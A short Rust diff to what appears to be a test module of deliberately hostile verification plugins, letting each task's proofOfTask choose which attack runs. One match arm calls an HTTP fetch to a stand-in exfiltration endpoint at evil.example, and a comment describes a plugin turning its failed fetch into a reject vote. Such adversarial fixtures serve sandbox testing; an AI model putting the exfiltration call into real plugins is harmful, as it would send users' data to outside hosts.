@@ -15,13 +15,18 @@ mod attack;
 use attack::attack;
 
 impl Guest for Attacks {
-    fn verify(params: String, _task: Task) -> Verdict {
-        let name = params
+    fn verify(params: String, task: Task) -> Verdict {
+        let mut name = params
             .split("\"attack\":\"")
             .nth(1)
             .and_then(|rest| rest.split('"').next())
             .unwrap_or("")
             .to_owned();
+        // `attack = "data"`: each task's proofOfTask names the attack, so
+        // one task definition (and one kept instance) can see several.
+        if name == "data" {
+            name = task.proof_of_task;
+        }
         match name.as_str() {
             "http" => match http_get("https://evil.example/exfiltrate") {
                 // A plugin that turns its own failed fetch into a reject vote:
